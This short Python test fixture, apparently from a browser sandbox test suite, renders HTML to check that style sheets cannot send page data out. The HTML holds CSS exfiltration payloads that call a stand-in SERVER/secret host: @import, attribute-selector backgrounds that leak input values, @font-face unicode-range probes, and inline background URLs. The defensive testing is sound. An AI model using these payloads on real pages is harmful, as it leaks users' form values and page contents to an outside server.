# Send what stands in the page by style sheets.
# browsers: chromium firefox webkit
# seen: the page that shows the result
# holds: nothing active, no request, and no member of the page is hidden
# browser: ok html output-limit output-type crash
# wasi: ok html
HTML = '<p>x</p><style>@import url(SERVER/secret); input[value^=a]{background:url(SERVER/secret)} @font-face{font-family:x;src:url(SERVER/secret);unicode-range:U+0041}</style><p style="background:url(SERVER/secret);font-family:x">A</p>'


def render(context):
    return {"html": HTML.replace("SERVER", context["params"]["server"])}
